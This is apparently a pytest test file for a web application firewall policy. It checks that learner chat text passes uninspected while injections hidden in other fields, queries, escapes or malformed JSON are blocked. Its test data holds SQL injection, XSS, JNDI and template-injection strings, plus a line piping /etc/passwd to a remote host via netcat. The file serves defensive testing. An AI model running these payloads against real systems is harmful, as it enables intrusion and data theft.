"""What is free text is not inspected, and nothing else passes for it: the ways past a field's exclusion."""

from __future__ import annotations

import json
from typing import Any

import pytest

from edge.waf.conftest import body_of, chat, raw
from ion_mentoring.edge.waf import bodies
from ion_mentoring.edge.waf.explain import request_of
from ion_mentoring.edge.waf.policy import Policy
from ion_mentoring.errors import MalformedRequest, UnsupportedMediaType

EVIL = "' UNION SELECT name, hash FROM keys --"
PASTED = ["<script>alert(1)</script>", EVIL, "cat /etc/passwd | nc 203.0.113.9 4444", "${jndi:ldap://x}", "{{7*7}}"]


@pytest.mark.parametrize("text", PASTED)
def test_a_learner_pastes_what_they_like(policy: Policy, text: str) -> None:
    assert not policy.judge(chat(message=f"Why is this dangerous? {text}")).found
    assert not policy.judge(request_of({"path": f"/api/v2/search?q={text}"})).found
    openai = {"model": "ion-auto", "messages": [{"role": "user", "content": text}]}
    assert not policy.judge(request_of({"method": "POST", "path": "/openai/v1/chat/completions", "json": openai})).found


@pytest.mark.parametrize(
    "given",
    [
        {"message": "hello", "persona": EVIL},
        {"message": {"text": EVIL}},
        {"message": [EVIL]},
        {"Message": EVIL},
        {"message ": EVIL},
        {"message.": EVIL},
        {"a": {"message": EVIL}},
        {"message": "hello", EVIL: "x"},
        {"message": "hello", "messages": [{"content": EVIL}]},
    ],
)
def test_the_name_of_a_text_field_covers_nothing_else(policy: Policy, given: dict[str, Any]) -> None:
    assert policy.judge(chat(**given)).blocked_by


def test_a_text_field_of_one_route_is_none_of_another(policy: Policy) -> None:
    assert policy.judge(request_of({"method": "POST", "path": "/api/v2/analyze", "json": {"message": EVIL}})).blocked_by
    assert policy.judge(request_of({"path": f"/api/v2/sessions?message={EVIL}"})).blocked_by
    assert policy.judge(request_of({"path": f"/api/v2/search?q=hello&q[]={EVIL}"})).blocked_by
    assert policy.judge(request_of({"method": "POST", "path": "/nowhere", "json": {"message": EVIL}})).blocked_by


def test_the_query_of_a_post_is_no_text(policy: Policy) -> None:
    given = {"method": "POST", "path": f"/api/v2/chat?message={EVIL}", "json": {"message": "hello"}}
    assert policy.judge(request_of(given)).blocked_by


@pytest.mark.parametrize(
    "body",
    [
        '{"message": "a", "message": "b"}',
        '{"a": {"b": 1, "b": 2}}',
        '{"message": "a"} {"message": "b"}',
        '{"message": NaN}',
        '{"message": Infinity}',
        '{"message": 1e999}',
        f'{{"message": {"9" * 50}}}',
        '{"message": "a",}',
        "{'message': 'a'}",
        '{"message": "a"}\x00',
        '{"message": "a" /* x */}',
        "",
        " ",
        b'{"message": "\xff"}',
        b'\xef\xbb\xbf{"message": "a"}',
        '{"message": "a"}'.encode("utf-16"),
        "[" * 40 + "]" * 40,
        "[" * 100_000,
        json.dumps({"message": "a", **{f"k{n}": "v" for n in range(500)}}),
        json.dumps({"message": "a", "persona": "v" * 20_000}),
        json.dumps({"message": "a", "x": [0] * 20_000}),
    ],
)
def test_what_two_parsers_could_read_differently_is_refused(policy: Policy, body: bytes | str) -> None:
    request = raw(body)
    if not request.body:
        return
    with pytest.raises(MalformedRequest):
        policy.judge(request)


@pytest.mark.parametrize("packed", ["gzip", "deflate", "br", "identity, gzip"])
def test_a_packed_body_is_refused(policy: Policy, packed: str) -> None:
    with pytest.raises(UnsupportedMediaType):
        policy.judge(raw('{"message": "hello"}', **{"Content-Encoding": packed}))


def test_the_application_gets_the_very_thing_that_was_inspected(policy: Policy) -> None:
    sent = '{ "message" : "\\u0027 \\ud55c\\uad6d\\uc5b4 \\/",\n "persona":"lua" , "include_reasoning": true}'
    verdict = policy.judge(raw(sent))
    assert body_of(verdict) == {"message": "' 한국어 /", "persona": "lua", "include_reasoning": True}
    assert verdict.body == bodies.canonical(json.loads(sent))


@pytest.mark.parametrize("hidden", [r"\u0027 OR 1=1 --", r"\u003cscript\u003ealert(1)\u003c/script\u003e"])
def test_an_escape_hides_nothing(policy: Policy, hidden: str) -> None:
    assert policy.judge(raw(f'{{"message": "hello", "persona": "{hidden}"}}')).blocked_by


def test_every_form_says_which_of_its_fields_are_text(policy: Policy) -> None:
    """Where learners write; a new field shows up here, and somebody thinks about it."""
    written = {"message", "text", "title", "why", "note", "reason", "confirm", "q"}
    of_others = {"content", "url", "key", "code", "state", "iss", "error", "error_description", "error_uri"}
    of_others |= {"scope", "session_state"}
    """Of the OpenAI form, of signing in, and of an identity provider."""
    assert set(policy.routes.free_fields()) == written | of_others
    route = policy.routes.of("POST", "/api/v2/chat")
    assert route
    assert route.free_fields() == ["message"]


def test_requests_that_are_alike_are_looked_at_once_and_an_attack_never_hides_behind_one(policy: Policy) -> None:
    for _ in range(2):
        assert not policy.judge(chat(message="hello", persona="lua")).found
    assert policy.judge(chat(message="hello", persona=EVIL)).blocked_by
    assert policy.judge(request_of({"path": f"/api/v2/sessions?cursor={EVIL}"})).blocked_by
    agent = {"User-Agent": "sqlmap/1.8"}
    assert not policy.judge(request_of({"path": "/api/v2/personas"})).found
    assert policy.judge(request_of({"path": "/api/v2/personas", "headers": agent})).blocked_by
